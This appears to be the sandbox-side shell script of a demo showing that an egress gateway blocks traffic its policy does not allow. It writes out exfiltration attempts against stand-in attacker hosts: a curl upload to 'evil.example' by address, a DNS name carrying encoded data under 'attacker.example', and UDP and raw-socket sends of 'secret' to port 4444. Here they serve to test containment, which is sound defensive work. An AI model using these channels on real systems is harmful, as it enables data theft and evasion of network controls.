# The sandboxed side of the demo. Knows nothing of a gateway.

echo "== In the sandbox. What it holds: DEMO_API_KEY=$DEMO_API_KEY; proxy variables: $(env | grep -ic _proxy=)"
echo
echo "1. An allowed request, sent with the placeholder as its key:"
echo "   \$ curl -H \"x-api-key: \$DEMO_API_KEY\" https://api.demo.test/v1/hello"
curl -sS -H "x-api-key: $DEMO_API_KEY" https://api.demo.test/v1/hello | sed 's/^/   /'
echo
echo "2. The same host, a path that the policy does not name:"
echo "   \$ curl https://api.demo.test/admin"
curl -sS https://api.demo.test/admin | sed 's/^/   /'
echo
echo "3. A host that the policy does not name, dialled by address, as malware would:"
echo "   \$ curl --resolve evil.example:443:203.0.113.9 https://evil.example/upload"
curl -sS --resolve evil.example:443:203.0.113.9 https://evil.example/upload | sed 's/^/   /'
echo
echo "4. A DNS name that carries data. It is answered here and never asked of anyone:"
echo "   \$ getent hosts c2VjcmV0.attacker.example"
getent hosts c2VjcmV0.attacker.example || echo "   no such name"
echo
echo "5. Packets past the proxy. The only interface is lo, so there is nowhere to go:"
python3 - <<'PY'
import socket

def attempt(what, make, send):
    try:
        with make() as s:
            send(s)
            print(f"   {what}: sent, to nobody: there is no interface but lo")
    except OSError as error:
        print(f"   {what}: {error.strerror}")

attempt("UDP to 203.0.113.9:4444", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
        lambda s: s.sendto(b"secret", ("203.0.113.9", 4444)))
attempt("a raw IP packet to 203.0.113.9", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 253),
        lambda s: s.sendto(b"secret", ("203.0.113.9", 0)))
attempt("a raw Ethernet frame on lo", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
        lambda s: (s.bind(("lo", 0)), s.send(b"\xff" * 12 + b"\x08\x00" + b"secret" * 8)))
print("   interfaces:", ", ".join(name for _, name in socket.if_nameindex()))
PY
